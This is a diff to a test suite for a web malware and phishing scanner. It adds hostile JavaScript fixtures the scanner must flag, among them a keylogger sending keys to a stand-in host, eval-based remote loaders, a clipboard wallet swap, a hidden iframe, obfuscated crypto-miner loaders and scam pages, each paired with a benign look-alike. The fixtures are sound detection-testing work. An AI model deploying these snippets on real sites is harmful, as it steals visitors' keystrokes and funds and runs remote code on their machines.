@@ -145,7 +145,7 @@ describe('the scripts', () => {
       'the packer',
       `eval(function(p,a,c,k,e,d){return p}('0("1")',2,2,'alert|hi'.split('|'),0,{}))`,
       'packed',
-      20,
+      10,
     ],
     ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'brackets only', 40],
     ['dialogs without end', 'while(true){alert("locked")}', 'dialogs without end', 50],
@@ -155,6 +155,85 @@ describe('the scripts', () => {
       'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
       'whatever a socket tells',
       50,
+    ],
+    [
+      'keys for a socket',
+      'const w=new WebSocket("wss://keys.example");onkeydown=document.onkeypress=e=>w.send(e.key)',
+      'sends keystrokes to keys.example',
+      60,
+    ],
+    [
+      'a swapped address',
+      'document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain","0x1111111111111111111111111111111111111111");e.preventDefault()})',
+      'replaces the address of a wallet',
+      70,
+    ],
+    [
+      'orders from afar',
+      'fetch("/icon.ico").then(r=>r.text()).then(t=>{eval(atob(t.slice(90)))})',
+      'fetches something, decodes it, and runs',
+      40,
+    ],
+    [
+      'orders from a chain',
+      'fetch(rpc,{body:JSON.stringify({method:"eth_call"})}).then(r=>r.json()).then(j=>eval(j.result))',
+      'from a block chain',
+      50,
+    ],
+    [
+      'a search for guards',
+      'd.loadXML("<!DOCTYPE html SYSTEM \\"res://c:/windows/drivers/vmmouse.sys\\">")',
+      'looks for anti-virus programs',
+      50,
+    ],
+    [
+      'one face for robots',
+      'if(navigator.webdriver){document.body.textContent="ok"}else{location.replace(u)}',
+      'behaves for robots',
+      30,
+    ],
+    [
+      'windows beneath',
+      'onclick=()=>{const w=window.open(u);w.blur();window.focus()}',
+      'windows beneath the page',
+      20,
+    ],
+    [
+      'no way back',
+      'history.pushState({},"");onpopstate=function(){location.replace("/again")}',
+      'keeps people from leaving',
+      30,
+    ],
+    ['alarms', 'alert("Warning: 7 viruses found")', 'shouts that the computer is infected', 30],
+    [
+      'a false update',
+      'f.innerHTML="Your browser is out of date";a.download="Update.js"',
+      'browser is out of date',
+      30,
+    ],
+    [
+      "a stranger's program",
+      'setTimeout(()=>{location.href="https://files.example/setup.exe"},900)',
+      'fetches a program from files.example',
+      50,
+    ],
+    [
+      'a frame unseen',
+      'const f=document.createElement("iframe");f.src="http://gate.tk/in.cgi?3";f.width=1;f.height=1;b.append(f)',
+      'makes a hidden frame of gate.tk',
+      45,
+    ],
+    [
+      'an address in base64',
+      `const s=document.createElement("script");s.src=atob("${base64('https://cdn.example/stat.js')}")`,
+      'hides that it loads code or frames from cdn.example',
+      45,
+    ],
+    [
+      'an address backwards',
+      `const s=document.createElement("script");s.src="${[...'https://cdn.example/stat.js'].reverse().join('')}".split("").reverse().join("")`,
+      'hides that it loads code or frames from cdn.example',
+      55,
     ],
     [
       'a drainer',
@@ -194,6 +273,25 @@ describe('the scripts', () => {
       'the packer',
       `<script>eval(function(p,a,c,k,e,d){}('0 1.2(3)',4,4,'new|CoinHive|Anonymous|1'.split('|'),0,{}))</script>`,
     ],
+    ['an array of strings', `<script>${stringArray(2)}</script>`],
+    ['an array of strings that is turned', `<script>${stringArray(5)}</script>`],
+    ['an array of strings in the other base64', `<script>${stringArray(3, true)}</script>`],
+    [
+      'numbers under a key',
+      `<script>var q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (40 + (at % 5)))}],z="";for(var i=0;i<q.length;i++)z+=String.fromCharCode(q[i]^(40+i%5))</script>`,
+    ],
+    [
+      'numbers under a list of keys',
+      `<script>var k=[9,8,7],q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (9 - (at % 3)))}];z=q.map((n,i)=>String.fromCharCode(n^k[i%3]))</script>`,
+    ],
+    [
+      'the packer in other quotes',
+      `<script>eval(function(p,a,c,k,e,r){}("0 1.2(3)",4,4,"new|CoinHive|Anonymous|1".split("|"),0,{}))</script>`,
+    ],
+    [
+      'an address that is a script',
+      `<script src="data:text/javascript;base64,${base64('new CoinHive.Anonymous(1)')}"></script>`,
+    ],
   ])('are found in %s', async (_where, html) => {
     const read = page(html);
     expect(texts(await judgeScripts(readPage(read), read))).toContain('mines in the browser');
@@ -215,6 +313,43 @@ describe('the scripts', () => {
       'const s=Stripe("pk");form.onsubmit=()=>fetch("https://api.stripe.com/v1/tokens",{body:card.value})',
     ],
     ['an export', 'const u=URL.createObjectURL(new Blob([csv]));a.href=u;a.download="table.csv";a.click()'],
+    [
+      'a terminal',
+      'const w=new WebSocket("wss://"+location.host);term.onData(d=>w.send(d));onkeydown=e=>{if(e.key==="F1")help()}',
+    ],
+    [
+      'a copied address',
+      'b.onclick=()=>navigator.clipboard.writeText("0x1111111111111111111111111111111111111111")',
+    ],
+    [
+      'a copied selection',
+      'document.addEventListener("copy",e=>e.clipboardData.setData("text/plain",getSelection()+" Read more"))',
+    ],
+    ['a wallet that is asked', 'p.request({method:"eth_call"}).then(r=>show(r))'],
+    ['a test for robots', 'if(navigator.webdriver)metrics.robot=true'],
+    ['a router', 'onpopstate=()=>render(location.pathname);history.pushState({},"",u)'],
+    [
+      'a call on the whole screen',
+      'b.onclick=()=>d.requestFullscreen();addEventListener("beforeunload",e=>{if(inCall)e.preventDefault()})',
+    ],
+    ['a notice', 'alert("Saved")'],
+    ['its own download', 'b.onclick=()=>{location.href="/setup.exe"}'],
+    [
+      'a frame of its own',
+      'f=document.createElement("iframe");f.src="https://id.garden.example/renew";f.style.display="none"',
+    ],
+    [
+      'a list of words in base64',
+      `const words=[${['one', 'two', 'three', 'four', 'five'].map((word) => `"${base64(word)}"`)}]`,
+    ],
+    [
+      'numbers',
+      `const table=[${Array.from({ length: 60 }, (_, at) => at)}];String.fromCharCode(table[3]^(40+i%5))`,
+    ],
+    [
+      'a bundle that has all words of a key logger in several parts',
+      `on("keydown",e=>{if(e.key==="k")open()});${'function f(a,b){return a*b+1}'.repeat(80)}n+=e.key;${'function f(a,b){return a*b+1}'.repeat(80)}fetch("/api")`,
+    ],
     ['data', '</script><script type="application/json">{"x":"new CoinHive.Anonymous(1)"}'],
   ])('of %s say nothing', async (_what, code) => {
     expect((await scriptsOf(code)).indicators).toEqual([]);
@@ -250,6 +385,49 @@ describe('YARA', () => {
   test('refuses rules that it cannot read, and takes ours', async () => {
     await expect(scanWithYara('x', 'rule x {', 'whole')).rejects.toThrow('syntax error');
     expect(await scanWithYara('x', SCRIPT_RULES_SOURCE, COMPLETE)).toEqual(new Set());
+  });
+});
+
+/** A miner whose words are in an array that was turned. */
+function stringArray(turn: number, otherCase = false): string {
+  const words = ['createElement', 'div', 'body', 'appendChild', 'CoinHive', 'Anonymous', 'log'];
+  const encode = (word: string) => {
+    const text = base64(word);
+    if (!otherCase) return text;
+    return text.replace(/[a-z]/gi, (letter) => (letter < 'a' ? letter.toLowerCase() : letter.toUpperCase()));
+  };
+  const turned = [...words.slice(-turn), ...words.slice(0, -turn)].map((word) => `'${encode(word)}'`);
+  const call = (word: string) => `_0x2b3c('0x${words.indexOf(word).toString(16)}')`;
+  return `var _0x1a2b=[${turned}];(function(a,n){while(n--)a.push(a.shift())})(_0x1a2b,${turn});var _0x2b3c=function(i){return atob(_0x1a2b[i-0])};document[${call('createElement')}](${call('div')});document[${call('body')}][${call('appendChild')}](x);new window[${call('CoinHive')}][${call('Anonymous')}](1);console[${call('log')}](1)`;
+}
+
+describe('a script that repeats what the rules look for', () => {
+  test.each([
+    ['words of many rules', 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'],
+    ['recorders of keys', 'keydown;k+=e.key;fetch(k);'],
+    ['alarms', 'alert("'],
+    ['pipes', 'curl '],
+    ['addresses', 'fetch("https://x.example/");document.forms;keydown;'],
+    ['arrays', "var _0xaaaa=['ZGl2','Ym9keQ==','ZGl2','Ym9keQ==','ZGl2'];document[_0xbbbb('0x2')];"],
+    ['numbers', `[${'1,'.repeat(30)}1];String.fromCharCode(q[i]^(61+i%7));`],
+  ])('%s is read to its end soon, or not judged', async (_what, unit) => {
+    const code = unit.repeat(2_800_000 / unit.length);
+    const content = { ...readPage(page('<p>x</p>')), inline: [{ text: code, event: null }] };
+    const start = performance.now();
+    const verdict = await judgeScripts(content, { html: '', inlineScripts: [code] }).catch(() => null);
+    expect(performance.now() - start).toBeLessThan(10_000);
+    // What is judged was read whole: a miner at its end is found.
+    const mined = { ...content, inline: [{ text: `${code}\nnew CoinHive.Anonymous(1)`, event: null }] };
+    if (verdict?.judged) {
+      expect(texts(await judgeScripts(mined, { html: '', inlineScripts: [] }))).toContain(
+        'mines in the browser',
+      );
+    }
+  });
+
+  test('is not judged when more of it is hidden than is looked at', async () => {
+    const verdict = await scriptsOf(`x=[${`"${base64('var harmless = 1;')}",`.repeat(25_000)}]`);
+    expect(verdict.judged).toBe(false);
   });
 });
 
@@ -309,6 +487,52 @@ describe('the document', () => {
     ],
     ['an update', 'Your browser is out of date <a href="/u.exe">Update</a>', 'offers a program'],
     [
+      'a doubling',
+      '<h1>Giveaway</h1><p>Send 0.1 to 5 BTC and get twice as much back. 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>',
+      'more money back',
+    ],
+    [
+      'promised profits',
+      '<p>Guaranteed profits with our trading robot. He invested £200 and made £9,000 in a week.</p><form><input type="email" name="email"><input type="tel" name="phone"></form>',
+      'promises profits',
+    ],
+    [
+      'a guard switched off',
+      '<p>Disable your antivirus before you install.</p><a href="/setup.zip">Get it</a>',
+      'switch off what protects',
+    ],
+    [
+      'a crack',
+      '<title>Editor 9 Crack free download</title><a href="https://m.example/a.zip">Get</a>',
+      'protection was broken',
+    ],
+    [
+      'pokies in a title',
+      `<title>Slot online maxwin</title>${'<a href="https://s.example/">slot gacor</a>'.repeat(12)}`,
+      'what spam advertises',
+    ],
+    [
+      'a stranger behind a clear frame',
+      '<iframe src="https://ads.example/z" style="position:fixed;width:100%;height:100%;opacity:0"></iframe>',
+      'clickable and not to be seen',
+    ],
+    [
+      'steps that are shown later',
+      '<h1>Verify you are human</h1><div style="display:none"><p>Press Windows Key + R</p><p>Press Ctrl + V</p></div><script>b.onclick=()=>navigator.clipboard.writeText(t)</script>',
+      'paste something into the system',
+    ],
+    [
+      'a sick telephone',
+      '<h1>Your iPhone is severely damaged by (13) viruses</h1>',
+      'above all that the computer is in danger',
+    ],
+    [
+      'a card asked for in French',
+      '<title>ameli.fr - carte Vitale</title><form><input name="numcarte" placeholder="Numéro de carte bancaire"></form>',
+      'The title',
+    ],
+    ['a toll', login('', 'Outstanding toll: $6.99. Pay to avoid a late fee.'), 'presses for time'],
+    [
       'spam',
       `<div style="display:none">${'<a href="https://x.example/">cheap viagra</a>'.repeat(5)}</div>`,
       'nobody sees',
@@ -332,6 +556,21 @@ describe('the document', () => {
       '<iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0" style="display:none"></iframe>',
       undefined,
     ],
+    [
+      'software of its own',
+      login('').replace('Members', 'Sign in · GitLab'),
+      'https://gitlab.garden.example/users/sign_in',
+    ],
+    ['its mail', login('').replace('Members', 'Webmail login'), 'https://webmail.garden.example/'],
+    ['a donation', '<p>Donate BTC: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>', undefined],
+    ['a raffle', '<h1>Giveaway</h1><p>Comment below to win a book.</p>', undefined],
+    [
+      'an adviser',
+      '<p>Investing has risks; returns are not guaranteed.</p><form><input type="email" name="email"><input type="tel" name="phone"></form>',
+      undefined,
+    ],
+    ['a notice on scanners', '<p>Some scanners report it; do not turn off your antivirus.</p>', undefined],
+    ['its own download', '<meta http-equiv="refresh" content="5;url=/thanks">', undefined],
     [
       'an article about it',
       `${'<p>Phishing pages say your account has been suspended. </p>'.repeat(200)}`,
@@ -505,7 +744,11 @@ describe('the scanner', () => {
     const analysis = createAnalysis();
     await analysis.close();
     const limits = { signal: new AbortController().signal, timeoutMs: 1000 };
-    await expect(analysis.document(page(''), limits)).rejects.toThrow('closed');
+    const { document, scripts } = analysis.judge(page(''), limits);
+    await Promise.all([
+      expect(document).rejects.toThrow('closed'),
+      expect(scripts).rejects.toThrow('closed'),
+    ]);
   });
 });
 
